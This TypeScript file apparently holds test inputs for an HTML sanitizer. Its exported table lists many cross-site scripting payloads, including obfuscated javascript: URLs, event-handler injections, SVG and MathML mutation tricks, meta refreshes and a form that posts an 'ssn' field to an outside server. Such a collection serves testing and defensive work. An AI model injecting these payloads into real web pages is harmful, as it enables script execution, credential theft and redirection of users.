const HANDLERS =
  'abort animationend beforeinput blur canplay change contextmenu copy cut dblclick drag drop error focusin fullscreenchange gotpointercapture hashchange input invalid keydown load loadeddata message mousedown mouseover mousewheel pagehide paste pointerdown pointerover popstate readystatechange resize scroll scrollend search securitypolicyviolation selectionchange selectstart slotchange storage submit toggle touchstart transitionrun unhandledrejection unload wheel'.split(
    ' ',
  );
const BEARERS =
  'a abbr address article b blockquote body br center cite code dd del dfn div dl dt em figcaption figure font footer h1 header hr i img ins kbd li main mark nav ol p pre q s samp section small span strike strong sub sup table time tt u ul var wbr'.split(
    ' ',
  );
const EMPTY = ['br', 'hr', 'img', 'wbr'];

/** Schemes that run a script, in spellings that browsers accept. */
const SCRIPT_ADDRESSES = [
  'javascript:{run}',
  ' \t\u0001JaVaScRiPt:{run}',
  'j\na\nv\na\ns\nc\nr\ni\np\nt\n:{run}',
  'j&Tab;avascript:{run}',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{run}',
  'javascript&colon;{run}',
  'vbscript:msgbox(1)',
  'data:text/html,<script>{run}</script>',
  'data:image/svg+xml,<svg xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;{run}&quot;/>',
];

/** Markup that closes an element, a comment or a text before a script, or seems to. */
const SCRIPT_PLACES = [
  '{script}',
  '<p>a</p><!-- --!>{script}',
  '<!-->{script}-->',
  '<![CDATA[a]]>{script}',
  '</style></title></textarea>{script}',
  '<template>{script}</template>',
  '<div><template shadowrootmode=open>{script}</template></div>',
  '<noscript>{script}</noscript>',
  '<noscript><p title="</noscript>{script}">',
  '<title><!--</title>{script}-->',
  '<!doctype html PUBLIC "-//W3C//DTD HTML 3.2//EN" "{at}/dtd">{script}',
  '\ufeff{script}',
  '<p title="\'>">{script}',
];

/** Texts that close the form, by finding. `{run}`: a script that shows itself; `{at}`: a server; `press`: an id to click. */
export const ACTIVE_TEXTS: Record<string, string[]> = {
  script: [
    ...SCRIPT_PLACES.map((text) => text.replaceAll('{script}', '<script>{run}</script>')),
    '<SCRIPT/x>{run}</SCRIPT>',
    '<script\u0000>{run}</script><script\u000c\n>{run}</script >',
    '<script>{run}',
    '<script src="{at}/a.js" integrity="sha256-a" crossorigin></script>',
    '<script src={at}/open.js ',
    '<script type=module>{run}</script>',
  ],
  event_handler: [
    ...HANDLERS.map((name, place) => `<p on${name}={run} tabindex=${place}>a</p>`),
    ...BEARERS.map((element) => `<${element} onclick={run}${EMPTY.includes(element) ? '' : ' id=press'}>a`),
    ...['caption', 'col', 'td', 'th', 'tr'].map((part) => `<table><${part} onclick={run}><tr><td>a</table>`),
    '<img src=x onerror={run}>',
    '<img src=x onerror&#61;a onerror={run}//',
    '<img src onerror=/*\n*/{run}>',
    '<details open ontoggle={run}><summary>a</summary></details>',
    '<style onload={run}></style>',
    '<custom-word onpointerenter={run} id=press>a</custom-word>',
    '<p\u000conclick\u0000={run}>a</p>',
    '<p OnClIcK\n=\n{run} onclick=b>a</p>',
    '<p title="a" <b onclick={run}>a</p>',
  ],
  script_address: [
    ...SCRIPT_ADDRESSES.map((address) => `<a id=press href="${address}">a</a>`),
    ...['_blank', '_parent', '_top', '_self'].map(
      (target) => `<a id=press href="javascript:{run}" target=${target}>a</a>`,
    ),
    '<img src="javascript:{run}" longdesc="javascript:{run}" alt=a>',
    '<body background="javascript:{run}">',
    '<blockquote cite="javascript:{run}">a</blockquote>',
    '<link rel=stylesheet href="data:text/css,*{background:url({at}/css)}">',
    '<map><area href="javascript:{run}" id=press></map>',
  ],
  frame: [
    '<iframe src="{at}/frame"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror={run}&gt;" sandbox="allow-scripts allow-same-origin allow-top-navigation"></iframe>',
    '<iframe src="javascript:{run}"></iframe>',
    '<iframe src="data:text/html,<script>{run}</script>">',
    '<portal src="{at}/portal"></portal>',
    '<fencedframe src="{at}/fenced"></fencedframe>',
    '<p srcdoc="<script>{run}</script>">a</p>',
  ],
  form: [
    '<form action="{at}/form" method=post target=_top><input name=ssn><button id=press>a</button></form>',
    '<form action="javascript:{run}"><button id=press>a</button></form>',
    '<button id=press formaction="{at}/form" form=f>a</button><form id=f></form>',
    '<input type=image src="{at}/picture" formaction="{at}/form" id=press alt=a>',
    '<select autofocus onfocus={run}><option onclick={run}>a</select>',
    '<button commandfor=p command=show-popover id=press>a</button><p popover id=p>b</p>',
    '<table><form action="{at}/form"><tr><td><button id=press>a</button></table>',
    '<textarea></textarea><p>a</p>',
    '<form name=document><img name=cookie alt=a></form>',
  ],
  refresh: [
    '<meta http-equiv=refresh content="0;url={at}/refresh">',
    '<META/HTTP-EQUIV="ReFrEsH"/CONTENT=" 0 ; URL = \'{at}/refresh\' ">',
    '<noscript><meta http-equiv=refresh content="0;url={at}/refresh"></noscript>',
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    '<meta http-equiv=content-type content="text/html;charset=utf-7">+ADw-script+AD4-{run}+ADw-/script+AD4-',
    '<meta http-equiv>',
  ],
  base: [
    '<p><base href="//{host}/"></p>',
    '<base target=_top><a id=press href="#top">a</a>',
    '<base href="javascript:{run}//"><a id=press href=#>a</a>',
  ],
  plugin: [
    '<object data="{at}/object" type="text/html"><p>a</p></object>',
    '<object type=text/html data="javascript:{run}"></object>',
    '<applet code=a archive="{at}/applet"></applet>',
    '<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'{run}\'/>">',
  ],
  connection: [
    '<link rel=preconnect href="{at}/">',
    '<link rel=dns-prefetch href="{at}/">',
    '<template><link rel="x PreConnect" href="//{host}/" crossorigin></template>',
  ],
  foreign_markup: [
    '<SvG OnLoAd={run}></SvG>',
    '<svg><script>/*<![CDATA[*/{run}/*]]>*/</script></svg>',
    '<svg><a><animate attributeName=href values="javascript:{run}"/><text id=press y=20>a</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#a" /><use xlink:href="{at}/use.svg#a" /></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror={run}>">',
    '<svg><desc><![CDATA[</desc><script>{run}</script>]]></svg>',
    '<svg><annotation-xml><foreignobject><style><!--</style><p title="--><img src=x onerror={run}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">',
    '<math><annotation-xml encoding="text/html"><script>{run}</script></annotation-xml></math>',
  ],
};
